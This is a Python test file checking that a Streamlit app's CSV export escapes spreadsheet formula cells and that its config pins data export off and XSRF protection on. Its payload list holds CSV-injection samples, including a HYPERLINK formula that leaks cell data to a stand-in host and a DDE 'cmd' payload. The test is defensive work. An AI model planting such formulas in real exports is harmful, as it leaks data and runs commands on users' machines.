"""Issue 11, item 3: nothing downloadable from Pantau runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import tomllib

import pandas as pd

from lib.config import ROOT
from lib.export import csv_bytes, neutralise

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised_in_the_csv():
    frame = pd.DataFrame({"Teks": PAYLOADS + ["aman 😀", "tolong pak - ada begal"], "ID": range(8)})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    texts = [r[0] for r in rows[1:]]
    assert texts[:6] == ["'" + p for p in PAYLOADS]
    assert texts[6:] == ["aman 😀", "tolong pak - ada begal"]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(8)]  # numbers stay numbers
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


def test_other_values_are_untouched():
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise("Polsek Ciledug") == "Polsek Ciledug"


def test_streamlit_table_download_is_off_and_the_config_is_pinned():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    assert config["browser"]["gatherUsageStats"] is False
    assert config["client"]["showErrorDetails"] == "none"
    assert config["client"]["toolbarMode"] == "viewer"
    assert config["server"]["enableXsrfProtection"] is True
    assert config["server"]["address"] == "127.0.0.1"
    assert 10 <= config["server"]["maxUploadSize"] <= 50
